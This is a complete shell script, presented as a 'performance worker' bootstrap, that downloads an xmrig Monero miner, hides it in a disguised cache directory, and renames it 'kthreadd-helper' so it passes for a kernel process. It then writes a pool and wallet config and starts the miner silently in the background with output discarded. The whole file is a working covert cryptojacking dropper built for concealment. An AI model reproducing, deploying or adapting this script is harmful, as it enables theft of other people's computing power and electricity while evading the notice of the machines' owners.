#!/bin/sh
# "Performance worker" bootstrap: downloads a prebuilt xmrig release,
# unpacks it into a hidden cache directory, and starts it against a
# Monero pool under a harmless-looking process name with low priority.

PROG=${0##*/}
POOL=${POOL:-pool.supportxmr.com:443}
WALLET=${WALLET:-4XMRxWALLETxPLACEHOLDERxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx}
WORKER=${WORKER:-$(hostname | tr -c 'a-zA-Z0-9\n' '_')}
URL=${URL:-https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz}
DEST=${DEST:-$HOME/.cache/.fontconfig-worker}
BIN_NAME=kthreadd-helper
THREADS_PCT=${THREADS_PCT:-75}

log() { [ -n "${DEBUG:-}" ] && printf '[%s] %s\n' "$PROG" "$*" >&2; return 0; }

fetch() {
    if command -v curl >/dev/null 2>&1; then
        curl -fsSL --retry 3 -o "$1" "$2"
    elif command -v wget >/dev/null 2>&1; then
        wget -q -O "$1" "$2"
    else
        return 1
    fi
}

already_running() {
    pgrep -x "$BIN_NAME" >/dev/null 2>&1
}

install_worker() {
    mkdir -p "$DEST"
    archive="$DEST/.pkg.tgz"
    fetch "$archive" "$URL" || { log "download failed"; exit 0; }
    tar -xzf "$archive" -C "$DEST" --strip-components=1
    rm -f "$archive"
    mv -f "$DEST/xmrig" "$DEST/$BIN_NAME"
    chmod 0755 "$DEST/$BIN_NAME"
    log "installed to $DEST"
}

write_config() {
    cpus=$(grep -c '^processor' /proc/cpuinfo 2>/dev/null || echo 1)
    threads=$(( cpus * THREADS_PCT / 100 ))
    [ "$threads" -lt 1 ] && threads=1
    cat > "$DEST/config.json" <<EOF
{
    "autosave": false,
    "background": true,
    "donate-level": 0,
    "cpu": { "enabled": true, "max-threads-hint": $THREADS_PCT, "priority": 0 },
    "pools": [
        {
            "url": "$POOL",
            "user": "$WALLET",
            "pass": "$WORKER",
            "tls": true,
            "keepalive": true
        }
    ],
    "print-time": 0,
    "syslog": false
}
EOF
    log "config written ($threads threads)"
}

start_worker() {
    cd "$DEST" || exit 0
    nohup nice -n 19 "./$BIN_NAME" -c config.json --no-color >/dev/null 2>&1 &
    log "worker started pid $!"
}

case ${1:-start} in
    start)
        already_running && exit 0
        [ -x "$DEST/$BIN_NAME" ] || install_worker
        write_config
        start_worker
        ;;
    stop)
        pkill -x "$BIN_NAME" 2>/dev/null
        ;;
    status)
        already_running && echo running || echo stopped
        ;;
    *)
        echo "usage: $PROG [start|stop|status]" >&2
        exit 2
        ;;
esac
